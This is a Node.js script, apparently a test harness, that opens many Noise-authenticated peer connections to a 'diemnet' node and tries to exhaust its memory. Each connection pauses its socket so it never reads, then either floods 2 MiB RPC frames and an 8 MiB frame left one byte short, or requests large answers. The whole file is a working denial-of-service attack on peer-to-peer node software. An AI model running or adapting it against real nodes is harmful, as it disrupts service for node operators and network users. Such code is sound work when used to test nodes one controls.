/**
 * Peers with proper handshakes that make a node hold what they can. `<address> <peers> <how>`: `unanswered` requests and
 * a frame that never ends, or `deaf`, which ask for large answers. Neither kind ever reads.
 */
import { TcpTransport } from '@diemnet/netcore';
import { parseNetworkAddress } from '@diemnet/network-address';
import { NoiseUpgrader, generateKeyPair } from '@diemnet/noise';
import { DiemNetTransport } from '@diemnet/transport';
import { PUBLIC_NETWORK, TrustedPeers, parseChainId, peerIdFromPublicKey } from '@diemnet/types';
import { encodeRpcRequestHeader } from '@diemnet/wire';

const [text, peers, how] = process.argv.slice(2);
const address = parseNetworkAddress(text);
const MIB = 2 ** 20;
const PROTOCOL = 42;
const silence = { onData() {}, onEnd() {}, onDrain() {}, onClose() {} };

await Promise.all(Array.from({ length: Number(peers) }, () => attack()));
process.send('done');
setTimeout(() => {}, 60_000);

async function attack() {
  const keyPair = generateKeyPair();
  const peerId = peerIdFromPublicKey(keyPair.publicKey);
  const transport = new DiemNetTransport({
    base: new TcpTransport({ httpProxy: 'none' }),
    noise: new NoiseUpgrader({
      identity: { peerId, keyPair },
      mode: 'maybe-mutual',
      trustedPeers: new TrustedPeers(),
    }),
    handshake: { chainId: parseChainId('TESTING'), networkId: PUBLIC_NETWORK, protocols: () => [PROTOCOL] },
    context: { role: 'full_node', networkId: PUBLIC_NETWORK, peerId },
  });
  const { socket } = await transport.dial(
    peerIdFromPublicKey(/\/ln-noise-ik\/([0-9a-f]{64})/.exec(text)[1]),
    address,
  );
  socket.setHandler(silence);
  // Nothing of what it is told is read.
  socket.pause();
  if (how === 'deaf') askForMuch(socket);
  else sendMuch(socket);
  while (socket.queuedBytes > 0) await new Promise((resolve) => setTimeout(resolve, 20));
}

/** Little to send, and more to be told than a lane takes. */
function askForMuch(socket) {
  const request = new TextEncoder().encode(`{"ask":1,"answerBytes":${2 * MIB}}`);
  for (let id = 0; id < 12; id++) {
    socket.write(encodeRpcRequestHeader(PROTOCOL, id, 0, request.length));
    socket.write(request.slice());
  }
}

function sendMuch(socket) {
  const payload = new Uint8Array(2 * MIB).fill(0x20);
  payload.set(new TextEncoder().encode('{"ask":1}'));
  // Requests until the budget is used up, and more of them.
  for (let id = 0; id < 12; id++) {
    socket.write(encodeRpcRequestHeader(PROTOCOL, id, 0, payload.length));
    socket.write(payload.slice());
  }
  // Then 8 MiB are announced, and all but the last byte sent.
  const header = encodeRpcRequestHeader(PROTOCOL, 99, 0, 8 * MIB - 11);
  socket.write(header);
  socket.write(new Uint8Array(8 * MIB - 11 - 1));
}
